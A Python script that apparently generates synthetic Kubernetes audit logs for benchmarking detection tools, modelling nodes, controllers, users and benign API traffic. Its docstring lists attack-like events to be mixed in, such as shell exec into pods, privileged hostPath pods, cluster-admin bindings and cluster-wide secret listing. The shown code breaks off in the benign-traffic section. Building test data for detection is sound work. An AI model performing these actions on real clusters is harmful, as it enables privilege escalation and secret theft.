#!/usr/bin/env python3
"""Generate a synthetic, deterministic Kubernetes audit log (audit.k8s.io/v1 Event JSON lines).

    python3 bench/gen-audit.py bench/out/audit-1m.jsonl                # 1,000,000 events, seed 1
    python3 bench/gen-audit.py OUT.jsonl --events 100000 --seed 7
    python3 bench/gen-audit.py - --events 1000 | head                  # '-' writes to stdout

What a busy apiserver's log backend (--audit-log-path, one Event per line) looks like with
the reference Falco audit policy (no RequestReceived stage; RequestResponse for pods,
deployments, configmaps, RBAC; Metadata for secrets and everything else):

* ~90 % small Metadata-level reads and heartbeats by system components: kubelet node-lease
  updates and gets (`system:node:*`), leader-election lease get/update by
  kube-controller-manager and kube-scheduler, watches and lists by controllers, coredns,
  kube-proxy and service accounts (with bound-token `user.extra`), gets of configmaps,
  secrets, pods, nodes, endpoints, token/subject access reviews, /healthz, /metrics ...
* a share of Request/RequestResponse writes with full objects: pod creates by the
  replicaset/daemonset/job controllers (request + response pod with managedFields and
  status), kubelet node-status and pod-status patches, event creates, deployment patches
  and applies by people and CD tools, configmap updates (some large: dashboards, rules), CRD
  applies (up to ~50 KB per line);
* ~0.1 % attack-like events: exec into pods (ResponseStarted + ResponseComplete, same
  auditID, `?command=sh&command=-c...`), privileged / hostPath `/` or `/etc` / hostPID /
  hostNetwork pods (with Pod Security `audit-violations` annotations), cluster-admin
  ClusterRoleBindings, wildcard ClusterRoles, anonymous allowed requests, cluster-wide
  `list secrets`, `serviceaccounts/token` creates, bursts of 403, selfsubjectrulesreviews by
  service accounts, kubectl run with a service-account token, a scanner user agent, 401s.

Field order follows the Go struct (kind, apiVersion, level, auditID, stage, requestURI, verb,
user, sourceIPs, userAgent, objectRef, responseStatus, requestObject, responseObject,
requestReceivedTimestamp, stageTimestamp, annotations). Timestamps advance (about 150
events/s) and are in stageTimestamp order; long-running requests (watch, exec) write a
ResponseStarted event and, later, the ResponseComplete with the same auditID.

The same --seed and --events give byte-identical output. Python standard library only;
objects are serialised once into templates, events are written as strings. A summary
(events, bytes, average and largest line, per-kind counts) goes to stderr; --summary PATH
also writes it as JSON.
"""

import argparse
import heapq
import json
import random
import sys
import time

K8S_VERSION = "v1.30.4"
K8S_COMMIT = "a51b3b711150f57ffc1f526a640ec058514ed596"
GIT = "kubernetes/" + K8S_COMMIT[:7]
START = 1772442000  # 2026-03-02T09:00:00Z
RATE = 150.0  # mean events per second

J = lambda o: json.dumps(o, separators=(",", ":"))  # noqa: E731


# ---------------------------------------------------------------- cluster model

class Cluster:
    """Names, nodes, workloads and users, drawn once from the seed."""

    def __init__(self, rng):
        self.rng = rng
        self.nodes = [f"ip-10-0-{rng.randrange(1, 255)}-{rng.randrange(1, 255)}.eu-west-1.compute.internal"
                      for _ in range(60)]
        self.node_ip = {n: n.split(".")[0][3:].replace("-", ".") for n in self.nodes}
        self.cp_ip = "10.0.0.10"
        self.namespaces = ["default", "payments", "search", "identity", "checkout", "catalog",
                           "data", "ml", "monitoring", "logging", "ingress-nginx", "cert-manager",
                           "argocd", "kube-system", "platform", "web", "batch", "analytics"]
        self.apps = ["api", "web", "worker", "gateway", "indexer", "cache", "ingest", "exporter",
                     "sync", "notifier", "frontend", "backend", "auth", "router", "collector",
                     "scheduler", "proxy", "db", "search", "recommender"]
        self.workloads = []  # (ns, app, rs hash)
        for _ in range(400):
            ns = rng.choice(self.namespaces[:10] + self.namespaces[13:])
            app = rng.choice(self.apps) + rng.choice(["", "-v2", "-internal", "-public", "-eu"])
            self.workloads.append((ns, app, self.hash(10)))
        self.pods = [(ns, f"{app}-{h}-{self.hash(5)}", app) for ns, app, h in self.workloads
                     for _ in range(rng.randrange(1, 5))]
        self.configmaps = [(ns, rng.choice(["config", "env", "settings", "feature-flags", "nginx-conf",
                                             "app-properties", "logging", "routes"]) + "-" + app)
                           for ns, app, _ in self.workloads[:200]]
        self.secrets = [(ns, rng.choice(["db-credentials", "tls", "api-key", "oauth", "registry"]) + "-" + app)
                        for ns, app, _ in self.workloads[:200]]
        self.nslist_uids = {ns: self.uid() for ns in self.namespaces}

    def hash(self, n):
        a = "bcdfghjklmnpqrstvwxz2456789"
        return "".join(self.rng.choice(a) for _ in range(n))

    def uid(self):
        x = "%032x" % self.rng.getrandbits(128)
        return f"{x[:8]}-{x[8:12]}-4{x[13:16]}-{'89ab'[int(x[16], 16) & 3]}{x[17:20]}-{x[20:]}"


def user_json(username, groups, uid=None, extra=None):
    u = {"username": username}
    if uid:
        u["uid"] = uid
    u["groups"] = groups
    if extra:
        u["extra"] = extra
    return J(u)


def sa_user(c, ns, name, pod=None, node=None):
    """A service account, with bound-token extras when it runs in a pod."""
    extra = None
    if pod:
        extra = {"authentication.kubernetes.io/credential-id": ["JTI=" + c.uid()],
                 "authentication.kubernetes.io/node-name": [node or c.rng.choice(c.nodes)],
                 "authentication.kubernetes.io/node-uid": [c.uid()],
                 "authentication.kubernetes.io/pod-name": [pod],
                 "authentication.kubernetes.io/pod-uid": [c.uid()]}
    return user_json(f"system:serviceaccount:{ns}:{name}",
                     ["system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"],
                     uid=c.uid(), extra=extra)


def rbac_reason(kind, binding, role, subj_kind, subj):
    return f'RBAC: allowed by {kind} "{binding}" of ClusterRole "{role}" to {subj_kind} "{subj}"'


class Actor:
    """One client: user JSON, source IPs JSON, user agent JSON, authorization reason."""
    __slots__ = ("user", "ips", "ua", "reason", "name")

    def __init__(self, name, user, ips, ua, reason):
        self.name, self.user, self.ips, self.ua = name, user, J(ips), J(ua)
        self.reason = reason


def actors(c):
    a = {}
    a["kubelet"] = [Actor("kubelet", user_json(f"system:node:{n}", ["system:nodes", "system:authenticated"]),
                          [c.node_ip[n]], f"kubelet/{K8S_VERSION} (linux/amd64) {GIT}", "")
                    for n in c.nodes]
    a["kcm"] = Actor("kube-controller-manager", user_json("system:kube-controller-manager", ["system:authenticated"]),
                     [c.cp_ip], f"kube-controller-manager/{K8S_VERSION} (linux/amd64) {GIT}/leader-election",
                     rbac_reason("ClusterRoleBinding", "system:kube-controller-manager",
                                 "system:kube-controller-manager", "User", "system:kube-controller-manager"))
    a["sched"] = Actor("kube-scheduler", user_json("system:kube-scheduler", ["system:authenticated"]),
                       [c.cp_ip], f"kube-scheduler/{K8S_VERSION} (linux/amd64) {GIT}/leader-election",
                       rbac_reason("ClusterRoleBinding", "system:kube-scheduler", "system:kube-scheduler",
                                   "User", "system:kube-scheduler"))
    a["sched-bind"] = Actor("kube-scheduler", a["sched"].user, [c.cp_ip],
                            f"kube-scheduler/{K8S_VERSION} (linux/amd64) {GIT}/scheduler",
                            a["sched"].reason)
    ctrl = {}
    for name in ["replicaset-controller", "deployment-controller", "daemon-set-controller", "job-controller",
                 "cronjob-controller", "endpoint-controller", "endpointslice-controller", "namespace-controller",
                 "node-controller", "generic-garbage-collector", "resourcequota-controller",
                 "horizontal-pod-autoscaler", "statefulset-controller", "pod-garbage-collector",
                 "disruption-controller", "service-account-controller", "root-ca-cert-publisher"]:
        ctrl[name] = Actor(name, sa_user(c, "kube-system", name), [c.cp_ip],
                           f"kube-controller-manager/{K8S_VERSION} (linux/amd64) {GIT}/system:serviceaccount:kube-system:{name}",
                           rbac_reason("ClusterRoleBinding", f"system:controller:{name}", f"system:controller:{name}",
                                       "ServiceAccount", f"{name}/kube-system"))
    a["ctrl"] = ctrl

    def pod_sa(ns, sa, ua, role, count=3, crb=True):
        out = []
        for _ in range(count):
            node = c.rng.choice(c.nodes)
            pod = f"{sa}-{c.hash(9)}-{c.hash(5)}"
            reason = rbac_reason("ClusterRoleBinding" if crb else "RoleBinding", role, role, "ServiceAccount", f"{sa}/{ns}")
            out.append(Actor(sa, sa_user(c, ns, sa, pod, node), [c.node_ip[node]], ua, reason))
        return out

    a["coredns"] = pod_sa("kube-system", "coredns", "coredns/v0.0.0 (linux/amd64) kubernetes/$Format", "system:coredns", 2)
    a["kube-proxy"] = [Actor("kube-proxy", sa_user(c, "kube-system", "kube-proxy", f"kube-proxy-{c.hash(5)}", n),
                             [c.node_ip[n]], f"kube-proxy/{K8S_VERSION} (linux/amd64) {GIT}",
                             rbac_reason("ClusterRoleBinding", "system:node-proxier", "system:node-proxier",
                                         "ServiceAccount", "kube-proxy/kube-system"))
                       for n in c.nodes[:20]]
    a["sa"] = (pod_sa("cert-manager", "cert-manager", "cert-manager-controller/v1.15.3 (linux/amd64) cert-manager/2a0ef53", "cert-manager-controller-certificates")
               + pod_sa("argocd", "argocd-application-controller", "argocd-application-controller/v2.12.3 (linux/amd64)", "argocd-application-controller", 2)
               + pod_sa("monitoring", "prometheus-k8s", "Prometheus/2.54.1", "prometheus-k8s")
               + pod_sa("monitoring", "kube-state-metrics", "kube-state-metrics/v2.13.0 (linux/amd64) kube-state-metrics/11acb8d", "kube-state-metrics", 1)
               + pod_sa("kube-system", "metrics-server", "metrics-server/v0.7.2 (linux/amd64) kubernetes/$Format", "system:metrics-server", 1)
               + pod_sa("ingress-nginx", "ingress-nginx", "nginx-ingress-controller/v1.11.2 (linux/amd64) ingress-nginx/46e76e5916", "ingress-nginx")
               + pod_sa("kube-system", "cilium", "cilium-agent/1.16.1 (linux/amd64) kubernetes/$Format", "cilium", 6)
               + pod_sa("kube-system", "ebs-csi-node-sa", "csi-node-driver-registrar/v2.11.1 (linux/amd64) kubernetes/$Format", "ebs-csi-node-role", 2)
               + pod_sa("logging", "fluent-bit", "fluent-bit/3.1.9", "fluent-bit-read", 4)
               + pod_sa("kube-system", "cluster-autoscaler", "cluster-autoscaler/v1.30.2 (linux/amd64) kubernetes/$Format", "cluster-autoscaler", 1))
    humans = []
    for name, group, os_ in [("alice@example.com", "platform-admins", "darwin/arm64"),
                             ("bob@example.com", "developers", "linux/amd64"),
                             ("carol@example.com", "developers", "darwin/arm64"),
                             ("dave@example.com", "sre", "windows/amd64"),
                             ("erin@example.com", "developers", "darwin/amd64")]:
        ip = f"198.51.100.{c.rng.randrange(2, 250)}"
        humans.append(Actor(name, user_json(name, [group, "system:authenticated"], extra={
            "arn": [f"arn:aws:sts::123456789012:assumed-role/{group}/{name}"],
            "sessionName": [name], "accessKeyId": ["ASIA" + c.hash(16).upper()]}),
            [ip], f"kubectl/v1.30.2 ({os_}) kubernetes/3968350",
            rbac_reason("ClusterRoleBinding", group, "admin" if group != "developers" else "edit", "Group", group)))
    a["human"] = humans
    a["argocd-server"] = pod_sa("argocd", "argocd-server", "argocd/v2.12.3", "argocd-server", 1)[0]
    a["helm"] = Actor("helm", user_json("system:serviceaccount:ci:deployer",
                                        ["system:serviceaccounts", "system:serviceaccounts:ci", "system:authenticated"],
                                        uid=c.uid()), ["10.0.200.14"], "Helm/3.15.4",
                      rbac_reason("ClusterRoleBinding", "ci-deployer", "cluster-deployer", "ServiceAccount", "deployer/ci"))
    return a


# ---------------------------------------------------------------- object templates

def container(c, app, i=0, sec=None):
    env = [{"name": k, "value": v} for k, v in
           [("APP_ENV", "production"), ("LOG_LEVEL", c.rng.choice(["info", "warn", "debug"])),
            ("PORT", "8080"), ("OTEL_EXPORTER_OTLP_ENDPOINT", "http://otel-collector.monitoring:4317"),
            ("GOMAXPROCS", "2"), ("DB_HOST", f"{app}-db.data.svc.cluster.local"),
            ("FEATURE_FLAGS", ",".join(c.rng.sample(["beta-ui", "fast-path", "new-billing", "canary", "dark-mode",
                                                     "async-io", "v2-api"], 3)))][: c.rng.randrange(3, 8)]]
    env += [{"name": "DB_PASSWORD", "valueFrom": {"secretKeyRef": {"name": f"db-credentials-{app}", "key": "password"}}}]
    ct = {"name": app if i == 0 else f"{app}-sidecar-{i}",
          "image": c.rng.choice([f"123456789012.dkr.ecr.eu-west-1.amazonaws.com/{app}:v{c.rng.randrange(1, 9)}.{c.rng.randrange(0, 40)}.{c.rng.randrange(0, 9)}",
                                 f"ghcr.io/acme/{app}@sha256:{'%064x' % c.rng.getrandbits(256)}",
                                 "docker.io/envoyproxy/envoy:v1.31.1", "quay.io/prometheus/statsd-exporter:v0.27.1"]),
          "ports": [{"name": "http", "containerPort": 8080, "protocol": "TCP"},
                    {"name": "metrics", "containerPort": 9090, "protocol": "TCP"}],
          "env": env,
          "resources": {"limits": {"cpu": "1", "memory": f"{c.rng.choice([256, 512, 1024, 2048])}Mi"},
                        "requests": {"cpu": f"{c.rng.choice([50, 100, 250, 500])}m", "memory": "128Mi"}},
          "volumeMounts": [{"name": "config", "mountPath": "/etc/app"},
                           {"name": "kube-api-access", "readOnly": True,
                            "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"}],
          "livenessProbe": {"httpGet": {"path": "/healthz", "port": 8080, "scheme": "HTTP"},
                            "initialDelaySeconds": 10, "timeoutSeconds": 1, "periodSeconds": 10,
                            "successThreshold": 1, "failureThreshold": 3},
          "readinessProbe": {"httpGet": {"path": "/ready", "port": 8080, "scheme": "HTTP"},
                             "timeoutSeconds": 1, "periodSeconds": 5, "successThreshold": 1, "failureThreshold": 3},
          "terminationMessagePath": "/dev/termination-log", "terminationMessagePolicy": "File",
          "imagePullPolicy": "IfNotPresent",
          "securityContext": sec if sec is not None else
          {"allowPrivilegeEscalation": False, "readOnlyRootFilesystem": True, "runAsNonRoot": True,
           "capabilities": {"drop": ["ALL"]}, "seccompProfile": {"type": "RuntimeDefault"}}}
    return ct


def pod_spec(c, app, containers, volumes=None, extra=None):
    spec = {"volumes": (volumes or []) + [
        {"name": "config", "configMap": {"name": f"config-{app}", "defaultMode": 420}},
        {"name": "kube-api-access", "projected": {"sources": [
            {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
            {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}},
            {"downwardAPI": {"items": [{"path": "namespace", "fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.namespace"}}]}}],
            "defaultMode": 420}}],
        "containers": containers, "restartPolicy": "Always", "terminationGracePeriodSeconds": 30,
        "dnsPolicy": "ClusterFirst", "serviceAccountName": app, "serviceAccount": app,
        "securityContext": {"fsGroup": 2000}, "schedulerName": "default-scheduler",
        "tolerations": [{"key": "node.kubernetes.io/not-ready", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300},
                        {"key": "node.kubernetes.io/unreachable", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300}],
        "affinity": {"podAntiAffinity": {"preferredDuringSchedulingIgnoredDuringExecution": [
            {"weight": 100, "podAffinityTerm": {"labelSelector": {"matchLabels": {"app.kubernetes.io/name": app}},
                                                "topologyKey": "kubernetes.io/hostname"}}]}},
        "priority": 0, "enableServiceLinks": True, "preemptionPolicy": "PreemptLowerPriority"}
    if extra:
        spec.update(extra)
    return spec


def labels(app, h):
    return {"app.kubernetes.io/name": app, "app.kubernetes.io/part-of": app.split("-")[0],
            "app.kubernetes.io/managed-by": "argocd", "pod-template-hash": h}


def managed_fields(manager, op, t):
    return [{"manager": manager, "operation": op, "apiVersion": "v1", "time": t, "fieldsType": "FieldsV1",
             "fieldsV1": {"f:metadata": {"f:generateName": {}, "f:labels": {".": {}, "f:app.kubernetes.io/name": {},
                                                                             "f:pod-template-hash": {}},
                                         "f:ownerReferences": {".": {}}},
                          "f:spec": {"f:containers": {}, "f:dnsPolicy": {}, "f:enableServiceLinks": {},
                                     "f:restartPolicy": {}, "f:schedulerName": {}, "f:securityContext": {},
                                     "f:terminationGracePeriodSeconds": {}, "f:volumes": {}}}}]


def pod_create_template(c, ns, app, h, spec, t="2026-03-02T08:00:00Z"):
    """(requestObject JSON, responseObject JSON) of a pod created by a ReplicaSet; '@@POD@@' is the name."""
    meta = {"generateName": f"{app}-{h}-", "namespace": ns, "creationTimestamp": None, "labels": labels(app, h),
            "annotations": {"kubectl.kubernetes.io/restartedAt": t, "prometheus.io/scrape": "true",
                            "prometheus.io/port": "9090"},
            "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": f"{app}-{h}",
                                 "uid": c.uid(), "controller": True, "blockOwnerDeletion": True}]}
    req = {"kind": "Pod", "apiVersion": "v1", "metadata": meta, "spec": spec, "status": {}}
    rmeta = dict(meta, name="@@POD@@", uid=c.uid(), resourceVersion=str(c.rng.randrange(10**7, 10**8)),
                 creationTimestamp=t, managedFields=managed_fields("kube-controller-manager", "Update", t))
    rspec = dict(spec, nodeName="", priority=0)
    resp = {"kind": "Pod", "apiVersion": "v1", "metadata": rmeta, "spec": rspec,
            "status": {"phase": "Pending", "qosClass": "Burstable"}}
    return J(req), J(resp)


def deployment_json(c, ns, app, replicas):
    h = c.hash(10)
    spec = pod_spec(c, app, [container(c, app, i) for i in range(c.rng.choice([1, 1, 2]))])
    return {"apiVersion": "apps/v1", "kind": "Deployment",
            "metadata": {"name": app, "namespace": ns, "labels": labels(app, h),
                         "annotations": {"argocd.argoproj.io/tracking-id": f"{app}:apps/Deployment:{ns}/{app}",
                                         "deployment.kubernetes.io/revision": str(c.rng.randrange(1, 300))}},
            "spec": {"replicas": replicas, "revisionHistoryLimit": 10,
                     "selector": {"matchLabels": {"app.kubernetes.io/name": app}},
                     "strategy": {"type": "RollingUpdate", "rollingUpdate": {"maxUnavailable": "25%", "maxSurge": "25%"}},
                     "template": {"metadata": {"labels": {"app.kubernetes.io/name": app}}, "spec": spec}}}


def configmap_json(c, ns, name, size):
    data = {}
    n = 0
    while n < size:
        k = f"{c.rng.choice(['dashboard', 'rules', 'nginx', 'app', 'routes', 'alerts'])}-{len(data)}.{c.rng.choice(['json', 'yaml', 'conf'])}"
        v = "\n".join(f"{c.rng.choice(['key', 'expr', 'target', 'upstream', 'threshold', 'label'])}_{i}: "
                      f"{c.rng.choice(['sum(rate(http_requests_total[5m])) by (service)', 'true', '0.95', 'https://backend.internal:8443/v1', 'histogram_quantile(0.99, ...)'])}"
                      for i in range(c.rng.randrange(5, 40)))
        data[k] = v
        n += len(k) + len(v) + 8
    return {"kind": "ConfigMap", "apiVersion": "v1",
            "metadata": {"name": name, "namespace": ns, "labels": {"app.kubernetes.io/managed-by": "Helm"},
                         "annotations": {"meta.helm.sh/release-name": name, "meta.helm.sh/release-namespace": ns}},
            "data": data}


def crd_json(c, size):
    props = {}
    n = 0
    while n < size:
        name = f"{c.rng.choice(['spec', 'config', 'target', 'policy', 'rule', 'selector'])}{c.hash(4).capitalize()}{len(props)}"
        p = {"type": c.rng.choice(["string", "integer", "boolean", "object", "array"]),
             "description": " ".join(c.rng.choice(["The", "name", "of", "the", "resource", "selector", "that",
                                                   "applies", "to", "this", "field", "when", "set", "otherwise",
                                                   "defaults"]) for _ in range(c.rng.randrange(8, 30)))}
        props[name] = p
        n += len(J(p)) + len(name)
    g = c.rng.choice(["monitoring.coreos.com", "cert-manager.io", "argoproj.io", "cilium.io", "networking.istio.io"])
    kind = c.rng.choice(["PrometheusRule", "Certificate", "Application", "CiliumNetworkPolicy", "VirtualService"])
    return {"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition",
            "metadata": {"name": f"{kind.lower()}s.{g}", "annotations": {"controller-gen.kubebuilder.io/version": "v0.16.1"}},
            "spec": {"group": g, "names": {"kind": kind, "listKind": kind + "List", "plural": kind.lower() + "s",
                                           "singular": kind.lower()},
                     "scope": "Namespaced",
                     "versions": [{"name": "v1", "served": True, "storage": True,
                                   "schema": {"openAPIV3Schema": {"type": "object", "properties": {
                                       "spec": {"type": "object", "properties": props}}}}}]}}


# ---------------------------------------------------------------- the generator

class Gen:
    def __init__(self, seed, out):
        self.rng = random.Random(seed)
        self.c = Cluster(self.rng)
        self.a = actors(self.c)
        self.out = out
        self.t = float(START)
        self.pending = []  # heap of (stage time, seq, line): ResponseComplete of long-running requests
        self.seq = 0
        self.count = 0
        self.bytes = 0
        self.largest = 0
        self.kinds = {}
        self._sec = None
        self._sec_str = ""
        self._precompute()

    # --- helpers
    def ts(self, t):
        s = int(t)
        if s != self._sec:
            self._sec = s
            self._sec_str = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(s))
        return f'{self._sec_str}.{int((t - s) * 1e6):06d}Z'

    def ts_any(self, t):
        s = int(t)
        return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(s)) + f'.{int((t - s) * 1e6):06d}Z'

    def audit_id(self):
        x = "%032x" % self.rng.getrandbits(128)
        return f"{x[:8]}-{x[8:12]}-4{x[13:16]}-{'89ab'[int(x[16], 16) & 3]}{x[17:20]}-{x[20:]}"

    def event(self, level, stage, uri, verb, actor, objref, status, t0, t1, req=None, resp=None,
              ann_extra="", aid=None, decision="allow", reason=None):
        """One event line (no newline). objref and status are JSON text or None; req/resp JSON text."""
        parts = ['{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"', level, '","auditID":"',
                 aid or self.audit_id(), '","stage":"', stage, '","requestURI":', J(uri), ',"verb":"', verb,
                 '","user":', actor.user, ',"sourceIPs":', actor.ips, ',"userAgent":', actor.ua]
        if objref is not None:
            parts += [',"objectRef":', objref]
        if status is not None:
            parts += [',"responseStatus":', status]
        if req is not None:
            parts += [',"requestObject":', req]
        if resp is not None:
            parts += [',"responseObject":', resp]
        r = actor.reason if reason is None else reason
        parts += [',"requestReceivedTimestamp":"', self.ts(t0),
                  '","stageTimestamp":"', self.ts(t1),
                  '","annotations":{"authorization.k8s.io/decision":"', decision,
                  '","authorization.k8s.io/reason":', J(r), ann_extra, '}}']
        return "".join(parts)

    def emit(self, line, kind):
        # ResponseComplete events of long-running requests that ended before now come first
        while self.pending and self.pending[0][0] <= self.t and self.count < self.target:
            _, _, pl, pk = heapq.heappop(self.pending)
            self._write(pl, pk)
        if self.count < self.target:
            self._write(line, kind)

    def _write(self, line, kind):
        self.out.write(line)
        self.out.write("\n")
        n = len(line) + 1
        self.count += 1
        self.bytes += n
        if n > self.largest:
            self.largest = n
        self.kinds[kind] = self.kinds.get(kind, 0) + 1

    def later(self, t, line, kind):
        self.seq += 1
        heapq.heappush(self.pending, (t, self.seq, line, kind))

    def tick(self):
        self.t += self.rng.expovariate(RATE)
        return self.t

    @staticmethod
    def oref(resource, ns=None, name=None, group="", version="v1", sub=None, rv=None, uid=None):
        d = {"resource": resource}
        if ns:
            d["namespace"] = ns
        if name:
            d["name"] = name
        if uid:
            d["uid"] = uid
        d["apiGroup"] = group
        d["apiVersion"] = version
        if rv:
            d["resourceVersion"] = rv
        if sub:
            d["subresource"] = sub
        return J(d)

    def _precompute(self):
        c, rng = self.c, self.rng
        self.st200 = '{"metadata":{},"code":200}'
        self.st201 = '{"metadata":{},"code":201}'
        self.st101 = '{"metadata":{},"code":101}'
        self.node_leases = {n: self.oref("leases", "kube-node-lease", n, "coordination.k8s.io") for n in c.nodes}
        self.node_patch = {}
        for n in c.nodes:
            conds = [{"type": t, "status": "False" if t != "Ready" else "True", "lastHeartbeatTime": "@@T@@",
                      "lastTransitionTime": "2026-02-27T11:04:19Z", "reason": r, "message": m}
                     for t, r, m in [("MemoryPressure", "KubeletHasSufficientMemory", "kubelet has sufficient memory available"),
                                     ("DiskPressure", "KubeletHasNoDiskPressure", "kubelet has no disk pressure"),
                                     ("PIDPressure", "KubeletHasSufficientPID", "kubelet has sufficient PID available"),
                                     ("Ready", "KubeletReady", "kubelet is posting ready status")]]
            images = [{"names": [f"123456789012.dkr.ecr.eu-west-1.amazonaws.com/{a}@sha256:{'%064x' % rng.getrandbits(256)}",
                                 f"123456789012.dkr.ecr.eu-west-1.amazonaws.com/{a}:v1.{rng.randrange(40)}.0"],
                       "sizeBytes": rng.randrange(10**7, 10**9)} for a in rng.sample(c.apps, 6)]
            body = {"status": {"$setElementOrder/conditions": [{"type": x["type"]} for x in conds],
                               "conditions": conds}}
            if rng.random() < 0.5:
                body["status"]["images"] = images
            self.node_patch[n] = J(body)
        self.pod_templates = []
        for ns, app, h in c.workloads[:120]:
            spec = pod_spec(c, app, [container(c, app, i) for i in range(rng.choice([1, 1, 1, 2, 3]))])
            self.pod_templates.append((ns, app, h) + pod_create_template(c, ns, app, h, spec))
        self.ds_templates = []
        for ds in ["cilium", "kube-proxy", "fluent-bit", "node-exporter", "ebs-csi-node"]:
            ns = "kube-system" if ds != "fluent-bit" else "logging"
            h = c.hash(5)
            sec = {"privileged": True} if ds in ("cilium", "ebs-csi-node", "kube-proxy") else None
            vols = [{"name": "host-proc", "hostPath": {"path": "/proc", "type": ""}},
                    {"name": "varlog", "hostPath": {"path": "/var/log", "type": ""}}]
            spec = pod_spec(c, ds, [container(c, ds, 0, sec)], vols,
                            {"hostNetwork": ds != "fluent-bit", "priorityClassName": "system-node-critical"})
            req, resp = pod_create_template(c, ns, ds, h, spec)
            self.ds_templates.append((ns, ds, req.replace('"ReplicaSet"', '"DaemonSet"'), resp.replace('"ReplicaSet"', '"DaemonSet"')))
        self.deploys = [(ns, app, J(deployment_json(c, ns, app, rng.choice([2, 3, 4, 6]))))
                        for ns, app, _ in c.workloads[:80]]
        self.small_cms = [(ns, name, J(configmap_json(c, ns, name, rng.choice([300, 800, 1500, 3000]))))
                          for ns, name in c.configmaps[:60]]
        self.big_cms = [("monitoring", f"grafana-dashboards-{i}", J(configmap_json(c, "monitoring", f"grafana-dashboards-{i}", rng.randrange(12000, 23000))))
                        for i in range(8)]
        self.crds = [J(crd_json(c, rng.randrange(15000, 46000))) for _ in range(6)]
        self.watch_uris = [
            ("/api/v1/pods?allowWatchBookmarks=true&fieldSelector=spec.nodeName%3D{node}&resourceVersion={rv}&timeout={to}&timeoutSeconds={tos}&watch=true", "pods", ""),
            ("/api/v1/namespaces/{ns}/configmaps?allowWatchBookmarks=true&resourceVersion={rv}&timeout={to}&timeoutSeconds={tos}&watch=true", "configmaps", ""),
            ("/apis/discovery.k8s.io/v1/endpointslices?allowWatchBookmarks=true&labelSelector=%21service.kubernetes.io%2Fheadless%2C%21service.kubernetes.io%2Fservice-proxy-name&resourceVersion={rv}&timeout={to}&timeoutSeconds={tos}&watch=true", "endpointslices", "discovery.k8s.io"),
            ("/api/v1/services?allowWatchBookmarks=true&resourceVersion={rv}&timeout={to}&timeoutSeconds={tos}&watch=true", "services", ""),
            ("/api/v1/nodes?allowWatchBookmarks=true&resourceVersion={rv}&timeout={to}&timeoutSeconds={tos}&watch=true", "nodes", ""),
            ("/apis/apps/v1/replicasets?allowWatchBookmarks=true&resourceVersion={rv}&timeout={to}&timeoutSeconds={tos}&watch=true", "replicasets", "apps"),
        ]

    # --- benign traffic -------------------------------------------------
    def benign(self):
        c, a, rng = self.c, self.a, self.rng
        t = self.tick()
        r = rng.random()
        d = rng.uniform(0.0008, 0.006)
        if r < 0.22:  # kubelet node-lease renew (every 10 s per node)
            k = rng.choice(a["kubelet"])
            node = k.user[len('{"username":"system:node:'):].split('"')[0]
            self.emit(self.event("Metadata", "ResponseComplete",
                                 f"/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{node}?timeout=10s",
                                 "update", k, self.node_leases[node], self.st200, t - d, t), "lease-update-kubelet")
        elif r < 0.30:  # kubelet gets its lease / node
            k = rng.choice(a["kubelet"])
            node = k.user[len('{"username":"system:node:'):].split('"')[0]
            if rng.random() < 0.5:
                self.emit(self.event("Metadata", "ResponseComplete",
                                     f"/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{node}?timeout=10s",
                                     "get", k, self.node_leases[node], self.st200, t - d, t), "lease-get-kubelet")
            else:
                self.emit(self.event("Metadata", "ResponseComplete", f"/api/v1/nodes/{node}?resourceVersion=0&timeout=10s",
                                     "get", k, self.oref("nodes", None, node), self.st200, t - d, t), "node-get-kubelet")
        elif r < 0.42:  # leader election (kcm, scheduler, cert-manager, ...)
            who = rng.choice([a["kcm"], a["sched"], a["kcm"], a["sched"], rng.choice(a["sa"])])
            lease = {"kube-controller-manager": "kube-controller-manager", "kube-scheduler": "kube-scheduler"}.get(
                who.name, who.name + "-leader")
            ns = "kube-system" if who.name in ("kube-controller-manager", "kube-scheduler") else "kube-system"
            verb = "get" if rng.random() < 0.55 else "update"
            self.emit(self.event("Metadata", "ResponseComplete",
                                 f"/apis/coordination.k8s.io/v1/namespaces/{ns}/leases/{lease}?timeout=5s",
                                 verb, who, self.oref("leases", ns, lease, "coordination.k8s.io"), self.st200, t - d, t),
                      f"lease-{verb}-leader")
        elif r < 0.54:  # watches: ResponseStarted now, ResponseComplete when the watch times out
            who = rng.choice(a["kubelet"] + a["kube-proxy"] + a["coredns"] + a["sa"] + [a["kcm"], a["sched"]])
            tmpl, res, grp = rng.choice(self.watch_uris)
            tos = rng.randrange(300, 600)
            ns = rng.choice(c.namespaces)
            uri = tmpl.format(node=rng.choice(c.nodes), rv=rng.randrange(10**7, 10**8), to=f"{tos // 60}m{tos % 60}s", tos=tos, ns=ns)
            oref = self.oref(res, ns if "{ns}" in tmpl else None, None, grp)
            aid = self.audit_id()
            if rng.random() < 0.5:
                self.emit(self.event("Metadata", "ResponseStarted", uri, "watch", who, oref, self.st200, t - d, t, aid=aid),
                          "watch-started")
                self.later(t + tos, self.event("Metadata", "ResponseComplete", uri, "watch", who, oref, self.st200, t, t + tos, aid=aid),
                           "watch-complete")
            else:  # one that started before the log did
                t0 = t - tos
                self.emit(self.event("Metadata", "ResponseComplete", uri, "watch", who, oref, self.st200, t0, t, aid=aid),
                          "watch-complete")
        elif r < 0.62:  # lists
            who = rng.choice(a["sa"] + a["coredns"] + [rng.choice(list(a["ctrl"].values()))])
            res, grp, ver = rng.choice([("pods", "", "v1"), ("configmaps", "", "v1"), ("services", "", "v1"),
                                        ("endpointslices", "discovery.k8s.io", "v1"), ("nodes", "", "v1"),
                                        ("namespaces", "", "v1"), ("ingresses", "networking.k8s.io", "v1"),
                                        ("deployments", "apps", "v1")])
